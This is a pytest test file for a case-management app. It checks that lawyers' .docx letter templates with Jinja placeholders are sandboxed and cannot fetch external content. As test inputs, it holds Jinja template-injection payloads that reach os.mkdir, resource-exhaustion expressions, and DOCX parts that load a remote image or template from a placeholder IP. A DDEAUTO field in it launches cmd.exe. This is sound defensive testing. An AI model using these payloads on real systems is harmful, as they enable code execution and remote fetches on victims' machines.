"""A letter template is a .docx anyone can send the lawyer, and its placeholders are Jinja
expressions: one must not run commands on her computer, nor take its memory, and one that
fails while being filled in is one line naming the template (exit 2), with no letter written;
nor may one fetch anything from outside itself when a letter made from it is opened.
A template using Jinja as a lawyer would (filters, conditions, formatting) still fills in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document

from caseapp.cli import main
from caseapp.reports.letter_templates import user_templates_dir
from tests.cli.one_captive import one_captive_file


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def _template(key: str, *lines: str) -> None:
    doc = Document()
    doc.add_paragraph("For {{ captive_name }}.")
    for line in lines:
        doc.add_paragraph(line)
    folder = user_templates_dir()
    folder.mkdir(parents=True, exist_ok=True)
    doc.save(str(folder / f"{key}.docx"))


@pytest.fixture
def case_file(tmp_path: Path) -> tuple[Path, str]:
    return one_captive_file(tmp_path, "Aram Sargsyan")


def _letter(case_file: tuple[Path, str], key: str, out: Path) -> tuple[int, str]:
    db, cid = case_file
    code, _, err = run("letter", key, cid, "-o", str(out), "--db", str(db))
    return code, err


def test_a_template_cannot_reach_the_operating_system(case_file: tuple[Path, str],
                                                      tmp_path: Path) -> None:
    made = tmp_path / "made-by-the-template"
    _template("intruder_en",
              f"{{{{ cycler.__init__.__globals__.os.mkdir('{made}') }}}}",
              f"{{{{ joiner.__init__.__globals__['os'].mkdir('{made}') }}}}")
    out = tmp_path / "letter.docx"
    code, err = _letter(case_file, "intruder_en", out)
    assert code == 2, err
    assert not made.exists()
    assert not out.exists()
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "intruder_en.docx" in err and "asks for something a letter may not do" in err


REFUSED = "asks for something a letter may not do"
FAILED = "cannot be filled in"


@pytest.mark.parametrize(("expression", "said"), [
    ("{{ captive_name.__class__.__mro__ }}", REFUSED),
    ("{{ {}.update(a=1) }}", REFUSED),
    ("{{ 'x' * 10**9 }}", REFUSED),
    ("{{ [captive_name] * 10**8 }}", REFUSED),
    ("{{ 3 ** 123456 }}", REFUSED),
    ("{{ '%.999999999f' % 1 }}", REFUSED),
    ("{{ 1 / 0 }}", FAILED),
    ("{{ captive_name.no_such.thing }}", FAILED),
    ("{{ captive_name | round }}", FAILED),
])
def test_a_template_refused_or_failing_while_filled_in_is_one_line_naming_it(
        case_file: tuple[Path, str], tmp_path: Path, expression: str, said: str) -> None:
    _template("faulty_en", expression)
    out = tmp_path / "letter.docx"
    code, err = _letter(case_file, "faulty_en", out)
    assert code == 2, err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "faulty_en.docx" in err and said in err, err
    assert not out.exists()


def test_a_template_using_jinja_as_a_lawyer_would_still_fills_in(
        case_file: tuple[Path, str], tmp_path: Path) -> None:
    _template("plain_en",
              "{{ captive_name | upper }} / {{ '%s, Esq.' % captive_name }} / {{ '-' * 3 }}",
              "{% if captive_name %}named{% else %}unnamed{% endif %} {{ 2 ** 10 }}",
              "{% for word in captive_name.split() %}[{{ word }}]{% endfor %}")
    out = tmp_path / "letter.docx"
    code, err = _letter(case_file, "plain_en", out)
    assert code == 0, err
    texts = [p.text for p in Document(str(out)).paragraphs]
    assert texts[1:] == ["ARAM SARGSYAN / Aram Sargsyan, Esq. / ---", "named 1024",
                         "[Aram][Sargsyan]"]


def test_the_refusal_is_in_the_users_language(case_file: tuple[Path, str],
                                              tmp_path: Path) -> None:
    _template("intruder_en", "{{ cycler.__init__.__globals__ }}")
    db, cid = case_file
    code, _, err = run("--lang", "ru", "letter", "intruder_en", cid, "-o",
                       str(tmp_path / "x.docx"), "--db", str(db))
    assert code == 2
    assert "Шаблон" in err and "intruder_en.docx" in err, err


# ---- what a template would fetch from outside itself when a letter made from it is opened

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _rewritten(key: str, change: dict[str, Callable[[str], str]],
               add: dict[str, str] | None = None) -> Path:
    """The user template ``key`` (made by :func:`_template`) with parts rewritten by
    ``change`` (part name → function of its text) and parts added."""
    path = user_templates_dir() / f"{key}.docx"
    source = path.read_bytes()
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(buf, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename in change:
                data = change[item.filename](data.decode("utf-8")).encode("utf-8")
            zout.writestr(item, data)
        for name, text in (add or {}).items():
            zout.writestr(name, text)
    path.write_bytes(buf.getvalue())
    return path


def _relationship(kind: str, target: str) -> Callable[[str], str]:
    rel = (f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
           f'2006/relationships/{kind}" Target="{target}" TargetMode="External"/>')
    return lambda text: text.replace("</Relationships>", rel + "</Relationships>")


_NESTED = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText>'
           '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _field(code_parts: list[str | None]) -> Callable[[str], str]:
    """A complex field whose code is split over runs, as Word writes one, after the body's
    first paragraph; a part None is a field nested in the code."""
    runs = "".join(_NESTED if p is None else
                   f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in code_parts)
    field = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
             '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return lambda text: text.replace("</w:p>", "</w:p>" + field, 1)


_SETTINGS_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                  'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                  '2006/relationships/attachedTemplate" Target="file://///198.51.100.7/share/x.dotx" '
                  'TargetMode="External"/></Relationships>')

FETCHING = {
    "a picture linked to a web address": (
        {"word/_rels/document.xml.rels": _relationship("image", "http://198.51.100.7/p.png")},
        None, "http://198.51.100.7/p.png"),
    "styles from a template on another computer": (
        {}, {"word/_rels/settings.xml.rels": _SETTINGS_RELS}, "198.51.100.7/share/x.dotx"),
    "an INCLUDEPICTURE field split over runs": (
        {"word/document.xml": _field(['INCLUDE', 'PICTURE "http://198.51.100.7/q.png" \\d'])},
        None, "INCLUDEPICTURE"),
    "a DDEAUTO field nested around another field": (
        {"word/document.xml": _field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ', None,
                                      ' calc"'])},
        None, "DDEAUTO"),
}


@pytest.mark.parametrize("case", sorted(FETCHING))
def test_a_template_fetching_from_outside_is_refused_naming_what_it_fetches(
        case_file: tuple[Path, str], tmp_path: Path, case: str) -> None:
    change, add, named = FETCHING[case]
    _template("fetching_en")
    _rewritten("fetching_en", change, add)
    out = tmp_path / "letter.docx"
    code, err = _letter(case_file, "fetching_en", out)
    assert code == 2, err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert "fetching_en.docx" in err and named in err and "from outside the document" in err
    assert not out.exists()
    code, listed, _ = run("templates", "list")
    assert code == 0
    assert any(line.startswith("fetching_en") and "UNUSABLE" in line
               for line in listed.splitlines()), listed


def test_a_template_with_a_hyperlink_and_ordinary_fields_still_fills_in(
        case_file: tuple[Path, str], tmp_path: Path) -> None:
    _template("linked_en")
    _rewritten("linked_en", {
        "word/_rels/document.xml.rels": lambda text: text.replace("</Relationships>", (
            '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/hyperlink" Target="https://www.echr.coe.int/" '
            'TargetMode="External"/></Relationships>')),
        "word/document.xml": _field(["PAGE \\* MERGEFORMAT"])})
    out = tmp_path / "letter.docx"
    code, err = _letter(case_file, "linked_en", out)
    assert code == 0, err
    assert out.exists()
